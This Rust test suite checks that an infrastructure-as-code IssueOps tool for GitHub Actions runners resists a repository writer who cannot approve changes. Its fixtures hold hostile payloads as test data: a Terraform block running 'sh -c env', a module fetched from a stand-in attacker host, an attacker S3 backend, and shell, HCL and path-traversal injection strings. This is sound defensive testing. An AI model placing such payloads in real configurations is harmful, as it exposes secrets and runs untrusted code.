//! One who may write to the control repository and may not approve tries every road that was found, and some more. Whatever they do, no
//! program that runs with the plan or the apply role, or with the App's key, is laid out with a byte of theirs.
//!
//! What they may do is no attack: ask for runners within the policy, have rendered files planned, give changes up.

use std::time::Duration;

use crate::support::{DELETE, Gate, POLICY, REPO, SET, World, block};
use runnersmith_issueops::change::State;
use runnersmith_issueops_engine::{Drift, Rights};
use runnersmith_types::ChangeTrigger;

/// Is in everything that the attacker writes.
pub(crate) const MARK: &str = "ATTACKER";
pub(crate) const EVIL: (&str, Option<&str>) =
    ("actions-runner-envs/team/x.tf", Some("data \"external\" \"ATTACKER\" { program = [\"sh\", \"-c\", \"env\"] }\n"));
pub(crate) const MAIN: (&str, Option<&str>) =
    ("actions-runner-envs/team/main.tf", Some("module \"runners\" { source = \"git::https://ATTACKER.example\" }\n"));
pub(crate) const BACKEND: (&str, Option<&str>) = (
    "actions-runner-envs/team/backend.tf.json",
    Some(r#"{"terraform": {"backend": {"s3": {"bucket": "ATTACKER", "key": "k", "region": "eu-west-1"}}}}"#),
);
pub(crate) const LOCK: (&str, Option<&str>) = ("actions-runner-envs/team/.terraform.lock.hcl", Some("# ATTACKER\n"));
pub(crate) const BRANCH: &str = "runnersmith/team-1";
/// A request to delete "team".
pub(crate) const GONE: &str = "```json\n{\"environment\": \"team\"}\n```";

/// walt attacks. wanda approves, adam is an admin and reads before he orders.
pub(crate) async fn world() -> World {
    let world = World::with_policy(&format!("{POLICY}\n[approval]\nteam = \"platform\"\n")).await;
    world.github.add_team("acme", "platform", &["wanda", "adam"]);
    world.provisioner.cloud.lock().unwrap().lock_file = Some("# ours\n".into());
    world
}

/// Everything that happens by itself: both jobs, each tick, each look for drift.
pub(crate) async fn goes_on(world: &World) {
    for _ in 0..3 {
        world.planner.handle(&ChangeTrigger::Tick).await.unwrap();
        world.applier.proceed().await.unwrap();
        world.planner.drift().await.unwrap();
        world.advance(Duration::from_secs(600));
    }
}

/// The assertion, after everything has had its time.
pub(crate) async fn held(world: &World) {
    goes_on(world).await;
    assert!(!world.provisioner.saw(MARK), "a program ran on files of the attacker's");
    let cloud = world.provisioner.cloud.lock().unwrap();
    assert!(!format!("{:?}{:?}", cloud.applied, cloud.there).contains(MARK));
    let pointed = format!("{:?}", world.webhooks.pointed.lock().unwrap());
    assert!(!pointed.contains(MARK), "the App's key was used for {pointed}");
}

/// What the attacker orders: none of it may lead anywhere.
pub(crate) async fn orders_all(world: &World, pull: u64) {
    orders_all_as(world, pull, "walt").await;
}

pub(crate) async fn orders_all_as(world: &World, pull: u64, login: &str) {
    let state = world.record("team").await.change.state;
    let line = match &state {
        State::Planned(plan) => plan.approve_line(world.record("team").await.change.kind),
        _ => "/approve".to_owned(),
    };
    let edited = world.record("team").await.change.edited_files.map(|edited| edited.plan_line());
    for order in [Some(line), Some("/plan".to_owned()), edited, Some("/unlock".to_owned())].into_iter().flatten() {
        world.order(pull, login, &order).await;
    }
}

// --- B1: files of a branch or of the default branch ---------------------------------------------------------------

#[tokio::test]
async fn files_of_a_branch_are_not_laid_out() {
    for files in [&[EVIL][..], &[MAIN], &[BACKEND], &[EVIL, MAIN, BACKEND, LOCK]] {
        let world = world().await;
        let (pull, _) = world.planned().await;
        world.github.push_as(REPO, BRANCH, "walt", files, "harmless");
        world.planner.handle(&ChangeTrigger::Branch { name: BRANCH.into() }).await.unwrap();
        orders_all(&world, pull).await;
        held(&world).await;
    }
}

#[tokio::test]
async fn files_that_were_merged_are_laid_out_neither_for_drift_nor_for_the_next_request_nor_for_a_deletion() {
    for files in [&[EVIL][..], &[MAIN], &[BACKEND], &[LOCK]] {
        let world = world().await;
        world.made("team").await;
        world.github.push_as(REPO, "main", "walt", files, "harmless");
        goes_on(&world).await;
        world.ask("walt", &block("team", 4), SET).await;
        let pull = world.record("team").await.change.pull;
        orders_all(&world, pull).await;
        world.order(pull, "walt", "/cancel").await;
        world.ask("walt", GONE, DELETE).await;
        orders_all(&world, world.record("team").await.change.pull).await;
        held(&world).await;
    }
}

#[tokio::test]
async fn a_folder_that_waits_for_a_request_of_its_name_is_not_laid_out() {
    let world = world().await;
    world.github.push_as(REPO, "main", "walt", &[EVIL], "harmless");
    world.ask("ann", &block("team", 3), SET).await;
    orders_all(&world, world.record("team").await.change.pull).await;
    held(&world).await;
}

#[tokio::test]
async fn what_is_pushed_between_approval_and_apply_is_not_laid_out() {
    let world = world().await;
    let (pull, line) = world.planned().await;
    world.comment(pull, "wanda", &line).await;
    world.github.push_as(REPO, BRANCH, "walt", &[EVIL, BACKEND], "quick");
    world.applier.proceed().await.unwrap();
    held(&world).await;
    assert!(world.provisioner.cloud.lock().unwrap().applied.is_empty());
}

#[tokio::test]
async fn what_is_pushed_after_an_apply_or_a_plan_died_is_not_laid_out_to_clear_up_after_it() {
    let applied = world().await;
    let (pull, line) = applied.planned().await;
    applied.comment(pull, "wanda", &line).await;
    applied.dies_applying().await;
    applied.github.push_as(REPO, BRANCH, "walt", &[EVIL, BACKEND], "quick");
    orders_all(&applied, pull).await;
    held(&applied).await;

    let planned = world().await;
    let issue = planned.open_issue("ann", &block("team", 3), SET);
    let gate = Gate::new(&planned.record_store, ".plan");
    planned.dies(&gate, Rights::Plan, ChangeTrigger::Issue { number: issue, editor: None }).await;
    planned.github.push_as(REPO, BRANCH, "walt", &[EVIL, BACKEND], "quick");
    held(&planned).await;
}

#[tokio::test]
async fn what_is_pushed_between_an_admins_order_and_its_plan_is_not_laid_out() {
    let world = world().await;
    let (pull, _) = world.planned().await;
    let harmless = (MAIN.0, Some("# a harmless comment\n"));
    world.github.push_as(REPO, BRANCH, "walt", &[harmless], "harmless");
    world.planner.handle(&ChangeTrigger::Pull { number: pull }).await.unwrap();
    let line = world.record("team").await.change.edited_files.unwrap().plan_line();
    world.github.comment_as(REPO, pull, "adam", &line);
    world.github.push_as(REPO, BRANCH, "walt", &[EVIL], "quick");
    world.planner.handle(&ChangeTrigger::Pull { number: pull }).await.unwrap();
    held(&world).await;
}

/// Nothing distinguishes what is merged with more from what was there: it is not believed either.
#[tokio::test]
async fn what_is_merged_together_with_more_is_not_laid_out() {
    let world = world().await;
    let (pull, _) = world.planned().await;
    world.github.push_as(REPO, BRANCH, "walt", &[EVIL], "harmless");
    world.github.merge_pull_as(REPO, pull, "walt").unwrap();
    goes_on(&world).await;
    orders_all(&world, pull).await;
    held(&world).await;
}

// --- B2, B3, B4: whose words count --------------------------------------------------------------------------------

#[tokio::test]
async fn an_edit_while_nobody_listens_a_bots_edit_and_anothers_comment_approve_nothing() {
    let world = world().await;
    let issue = world.ask("ann", &block("team", 3), SET).await;
    let (pull, line) = (world.record("team").await.change.pull, world.approve_line("team").await);
    // walt may edit what others wrote, here an approver's comment that ordered nothing.
    let id = world.github.comment_as(REPO, pull, "wanda", "Let me see.");
    world.github.edit_comment_as(REPO, id, "walt", &line);
    world.planner.handle(&ChangeTrigger::Pull { number: pull }).await.unwrap();
    world.order(pull, "walt", &line).await;
    world.applier.proceed().await.unwrap();
    assert!(matches!(world.record("team").await.change.state, State::Planned(_)), "{}", world.said(pull));
    for editor in ["walt", "github-actions[bot]"] {
        world.github.edit_issue_as(REPO, issue, editor, &block("team", 9));
        goes_on(&world).await;
        orders_all(&world, pull).await;
    }
    held(&world).await;
    assert!(world.provisioner.cloud.lock().unwrap().applied.is_empty(), "{}", world.said(pull));
}

/// Who may approve, as wanda may, does not approve what they brought about themselves: not by an edit, and not by a bot's.
#[tokio::test]
async fn an_approver_who_edits_or_has_a_bot_edit_or_ask_does_not_approve_that() {
    for (author, editor, why) in [
        ("ann", Some("wanda"), "Somebody else must"),
        ("ann", Some("github-actions[bot]"), "needs two people"),
        ("github-actions[bot]", None, "needs two people"),
    ] {
        let world = world().await;
        let issue = world.ask(author, &block("team", 3), SET).await;
        if let Some(editor) = editor {
            world.github.edit_issue_as(REPO, issue, editor, &block("team", 9));
        }
        world.planner.handle(&ChangeTrigger::Tick).await.unwrap();
        let pull = world.record("team").await.change.pull;
        world.order(pull, "wanda", "/plan").await;
        let line = world.approve_line("team").await;
        world.order(pull, "wanda", &line).await;
        assert!(world.answer(pull).contains(why), "{author} {editor:?}: {}", world.answer(pull));
        orders_all_as(&world, pull, "wanda").await;
        held(&world).await;
        assert!(
            world.provisioner.cloud.lock().unwrap().applied.is_empty(),
            "{author} {editor:?}: {}",
            world.said(pull)
        );
    }
}

/// Commits are believed by their addresses, which who commits chooses; they order nothing.
#[tokio::test]
async fn a_commit_under_an_admins_address_is_no_order_of_an_admin() {
    let world = world().await;
    let (pull, _) = world.planned().await;
    world.github.push_as(REPO, BRANCH, "adam", &[EVIL], "by adam, as it says");
    world.planner.handle(&ChangeTrigger::Pull { number: pull }).await.unwrap();
    orders_all(&world, pull).await;
    held(&world).await;
}

// --- B5, B6: what the repository itself says ----------------------------------------------------------------------

/// The policy, a workflow, the module and the zips count on the default branch alone, where they have a code owner.
#[tokio::test]
async fn a_policy_a_workflow_a_module_and_zips_of_a_branch_count_for_nothing() {
    let policy = format!("{}\n# ATTACKER\n", POLICY.replace("../../modules/runners", "git::https://ATTACKER.example"));
    for file in [
        ("runnersmith-policy.toml", policy.as_str()),
        (".github/workflows/runnersmith.yml", "on: push # ATTACKER\n"),
        ("modules/runners/main.tf", "# ATTACKER\n"),
        ("zips/runners.zip", "ATTACKER"),
    ] {
        let world = world().await;
        let (pull, line) = world.planned().await;
        world.github.push_as(REPO, BRANCH, "walt", &[(file.0, Some(file.1))], "harmless");
        world.order(pull, "wanda", &line).await;
        orders_all(&world, pull).await;
        held(&world).await;
        assert!(!world.github.pull(REPO, pull).merged, "{}: {}", file.0, world.said(pull));
        assert!(!world.files("main").contains(&"zips/runners.zip".to_owned()));
    }
}

/// A policy that takes the module from where nothing has a code owner is refused, no matter who merged it: nothing is planned by it.
#[tokio::test]
async fn a_policy_that_leads_to_a_folder_without_a_code_owner_is_used_for_nothing() {
    let world = world().await;
    let own = ("actions-runner-envs/module/main.tf", Some("# ATTACKER\n"));
    let policy = POLICY.replace("../../modules/runners", "../module");
    world.github.push_as(REPO, "main", "walt", &[own, ("runnersmith-policy.toml", Some(&policy))], "harmless");
    let issue = world.open_issue("ann", &block("team", 3), SET);
    let refused = world.planner.handle(&ChangeTrigger::Issue { number: issue, editor: None }).await.unwrap_err();
    assert!(
        runnersmith_ports::chain(&refused).contains("have no code owner"),
        "{}",
        runnersmith_ports::chain(&refused)
    );
    assert!(world.provisioner.cloud.lock().unwrap().laid_out.is_empty());
}

// --- roads of our own ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn a_branch_that_is_forced_to_other_commits_or_made_again_is_not_laid_out() {
    for when in ["before the approval", "after it", "made again"] {
        let world = world().await;
        let (pull, line) = world.planned().await;
        let forced = || world.github.force_push_as(REPO, BRANCH, "walt", &[EVIL, MAIN], "clean");
        match when {
            "before the approval" => _ = forced(),
            "after it" => {
                world.comment(pull, "wanda", &line).await;
                forced();
            }
            _ => {
                world.github.delete_branch_as(REPO, BRANCH, "walt");
                world.github.push_as(REPO, BRANCH, "walt", &[EVIL], "again");
            }
        }
        world.order(pull, "wanda", &line).await;
        world.applier.proceed().await.unwrap();
        held(&world).await;
        assert!(world.provisioner.cloud.lock().unwrap().applied.is_empty(), "{when}: {}", world.said(pull));
    }
}

/// The names of branches can be guessed: one that lies in wait is forced to what the request renders.
#[tokio::test]
async fn a_branch_that_lies_in_wait_is_not_taken_for_ours() {
    let world = world().await;
    world.github.push_as(REPO, BRANCH, "walt", &[EVIL, MAIN, LOCK], "in wait");
    let (pull, line) = world.planned().await;
    world.order(pull, "wanda", &line).await;
    held(&world).await;
    assert!(world.github.pull(REPO, pull).merged, "what was asked for is applied all the same: {}", world.said(pull));
    assert!(!world.files("main").contains(&EVIL.0.to_owned()));
}

/// A lock file of provider versions names which of a provider's versions is run.
#[tokio::test]
async fn a_lock_file_of_somebody_else_is_left_out_and_ours_takes_its_place() {
    let world = world().await;
    let (pull, _) = world.planned().await;
    world.github.push_as(REPO, BRANCH, "walt", &[LOCK], "older providers");
    world.planner.handle(&ChangeTrigger::Pull { number: pull }).await.unwrap();
    let lock_of = |branch: &str| world.github.files(REPO, branch)[LOCK.0].clone();
    assert_eq!(lock_of(BRANCH), b"# ours\n");
    let line = world.approve_line("team").await;
    world.order(pull, "wanda", &line).await;
    assert!(world.github.pull(REPO, pull).merged, "{}", world.said(pull));
    // Ours is used from there on; another one on the default branch is not, and does not keep drift from being looked for.
    let own =
        |world: &World| world.provisioner.cloud.lock().unwrap().laid_out.last().unwrap().files().get(LOCK.0).cloned();
    assert_eq!(world.planner.drift().await.unwrap(), [("team".to_owned(), Drift::None)]);
    assert_eq!(own(&world).as_deref(), Some(&b"# ours\n"[..]));
    world.github.push_as(REPO, "main", "walt", &[LOCK], "older providers");
    assert_eq!(world.planner.drift().await.unwrap(), [("team".to_owned(), Drift::None)]);
    assert_eq!(own(&world), None);
    // Nor does it come along with the next request, or keep a deletion from being approved.
    world.made("team").await;
    assert_eq!(lock_of("main"), b"# ours\n");
    world.github.push_as(REPO, "main", "walt", &[LOCK], "older providers");
    world.ask("ann", GONE, DELETE).await;
    let (deletion, line) = (world.record("team").await.change.pull, world.approve_line("team").await);
    world.order(deletion, "wanda", &line).await;
    assert!(!world.is_open("team").await, "{}", world.said(deletion));
    held(&world).await;
}

/// Title, body and labels are the attacker's to write, by hand and without a form.
#[tokio::test]
async fn the_words_of_an_issue_are_no_hcl_no_shell_and_no_path() {
    let world = world().await;
    let fields = ["environment", "organization", "minRunners", "maxRunners", "runnerGroup", "amiOwner", "labels"];
    for text in [
        "\"\n}\nresource \"null_resource\" \"ATTACKER\" {",
        "${file(\"ATTACKER\")}",
        "%{ if ATTACKER }",
        "$(ATTACKER)",
        "`ATTACKER`",
        "'; ATTACKER #",
        "../../ATTACKER",
        "ATTACKER\u{0}",
    ] {
        for field in fields {
            let mut request = serde_json::json!({"environment": "team", "organization": "acme", "maxRunners": "3",
                "reason": text});
            request[field] = text.into();
            let body = format!("{text}\n\n```json\n{request}\n```\n\n{text}");
            let issue = world.github.open_issue(REPO, "walt", text, &body, &[]).unwrap();
            world.github.label_issue_as(REPO, issue, "walt", SET);
            world.planner.handle(&ChangeTrigger::Issue { number: issue, editor: None }).await.unwrap();
            assert!(!world.is_open("team").await, "{field}: {text:?} was taken");
            world.github.close_issue_as(REPO, issue, "walt");
        }
        // Only the reason is theirs to say, and is used nowhere.
        let body = format!(
            "```json\n{}\n```",
            serde_json::json!({"environment": "team", "organization": "acme", "reason": text})
        );
        let issue = world.github.open_issue(REPO, "walt", text, &body, &[SET]).unwrap();
        world.planner.handle(&ChangeTrigger::Issue { number: issue, editor: None }).await.unwrap();
        assert!(matches!(world.record("team").await.change.state, State::Planned(_)));
        world.github.close_issue_as(REPO, issue, "walt");
        world.planner.handle(&ChangeTrigger::Issue { number: issue, editor: None }).await.unwrap();
    }
    held(&world).await;
}

/// An issue whose text is written where nobody of this repository sees it.
#[tokio::test]
async fn an_issue_that_was_moved_away_asks_for_nothing_any_more() {
    let world = world().await;
    let issue = world.ask("ann", &block("team", 3), SET).await;
    let (pull, line) = (world.record("team").await.change.pull, world.approve_line("team").await);
    world.github.add_repository("acme/elsewhere");
    let there = world.github.transfer_issue_as(REPO, issue, "walt", "acme/elsewhere");
    world.github.edit_issue_as("acme/elsewhere", there, "walt", &block("team", 9));
    world.order(pull, "wanda", &line).await;
    held(&world).await;
    assert!(world.provisioner.cloud.lock().unwrap().applied.is_empty(), "{}", world.said(pull));
}

#[tokio::test]
async fn a_pull_request_of_a_fork_or_into_another_branch_is_not_laid_out() {
    let world = world().await;
    let (pull, line) = world.planned().await;
    let fork = world.github.open_fork_pull(REPO, "walt", &[EVIL, MAIN], "Runners: team", "ATTACKER");
    for login in ["walt", "wanda"] {
        world.order(fork, login, "/plan").await;
        world.order(fork, login, &line).await;
    }
    // Another base would bring other files along.
    world.github.push_as(REPO, "release", "walt", &[EVIL, ("modules/runners/main.tf", Some("# ATTACKER\n"))], "base");
    world.github.retarget_pull_as(REPO, pull, "walt", "release");
    world.order(pull, "wanda", &line).await;
    orders_all(&world, pull).await;
    held(&world).await;
    assert!(world.provisioner.cloud.lock().unwrap().applied.is_empty(), "{}", world.said(pull));
}

/// The comment that shows the plan is any writer's to edit; what it says is not what is applied.
#[tokio::test]
async fn a_comment_of_ours_that_shows_something_else_leads_to_nothing_else() {
    let world = world().await;
    let (pull, line) = world.planned().await;
    let shown = world.shown(pull);
    let id = world.github.issue(REPO, pull).comments.iter().find(|comment| comment.body == shown).unwrap().id;
    world.github.edit_comment_as(REPO, id, "walt", &shown.replace(&line, "/approve ATTACKER"));
    world.github.push_as(REPO, BRANCH, "walt", &[EVIL], "harmless");
    world.github.comment_as(REPO, pull, "walt", &format!("> {line}\n\n<details>\n\n{line}\n\n</details>"));
    goes_on(&world).await;
    orders_all(&world, pull).await;
    held(&world).await;
    assert!(world.provisioner.cloud.lock().unwrap().applied.is_empty());
}
